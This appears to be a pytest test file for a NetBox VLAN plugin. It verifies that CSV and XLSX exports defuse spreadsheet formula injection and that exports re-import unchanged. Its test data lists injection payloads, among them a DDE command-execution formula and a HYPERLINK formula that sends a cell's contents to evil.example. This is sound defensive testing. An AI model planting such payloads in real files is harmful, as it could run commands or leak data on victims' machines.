import csv
import io

import pytest
from openpyxl import load_workbook

from netbox_vlan_manager.models import Segment
from netbox_vlan_manager.services import allocate
from netbox_vlan_manager.services.base.formulas import unescape_formula
from netbox_vlan_manager.services.onboarding.import_files import parse_file
from netbox_vlan_manager.services.onboarding.importing import import_segments
from netbox_vlan_manager.services.reporting.export import csv_chunks, segment_rows, xlsx_file
from netbox_vlan_manager.services.segments.segment_columns import EXPORTED
from tests.factories import make_pool, make_segment, make_user

pytestmark = pytest.mark.django_db

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    *(f"{start}1+1" for start in STARTS),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "a;=1+1",
    "a;'=1+1;-2",
    "a\n=1+1",
    "a\t+1",
    '"=1+1',
]
COLUMNS = {"site": "Site", "description": "Description"}


def cells(text, delimiter, **options):
    """Return the cells that a spreadsheet reads with this delimiter."""
    return [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, **options) for cell in line]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv(value):
    text = "".join(csv_chunks(COLUMNS, [("Site1", value)]))
    # As a comma-separated file, as read by a spreadsheet whose locale has semicolons, and without quotes.
    for options in ({"delimiter": ","}, {"delimiter": ";"}, {"delimiter": "\t"}):
        for cell in cells(text, **options):
            assert not cell.startswith(tuple(STARTS)), (options, cell)
    ((_site, cell),) = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert unescape_formula(cell) == value


@pytest.mark.parametrize("value", FORMULAS)
def test_xlsx(value):
    with xlsx_file(COLUMNS, [("Site1", value)]) as file:
        cell = load_workbook(file).active["B2"]
    assert cell.data_type == "s"
    assert not cell.value.startswith(tuple(STARTS))


def test_what_is_no_formula_stays():
    values = ("EPG-1", "a=b", "2001:db8::/64", "it's", "x; y", "'quoted'", 100, True)
    ((row),) = [list(csv.reader(io.StringIO("".join(csv_chunks(dict.fromkeys(range(8), ""), [values])))))[1]]
    assert row == [str(value) for value in values]
    assert [unescape_formula(value) for value in row] == row


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_round_trip(kind):
    """Importing an export changes nothing, and a spreadsheet runs no text of the export as a formula."""
    user = make_user(is_superuser=True)
    pool = make_pool()
    # Without texts that begin or end with white space, which an import trims.
    descriptions = [value for value in FORMULAS if value == value.strip()]
    for index, description in enumerate(descriptions):
        make_segment(pool, 100 + index, index, description=description)
    allocate("=cmd|' /C calc'!A0", pool=pool, user=user)
    rows = segment_rows(Segment.objects.all())
    if kind == "csv":
        content = "".join(csv_chunks(EXPORTED, rows)).encode()
    else:
        with xlsx_file(EXPORTED, rows) as file:
            content = file.read()
    result = import_segments(parse_file(content), user=user)
    assert {row.status: row.errors for row in result.results} == {"unchanged": {}}
    assert list(Segment.objects.order_by("vid").values_list("description", flat=True)) == descriptions
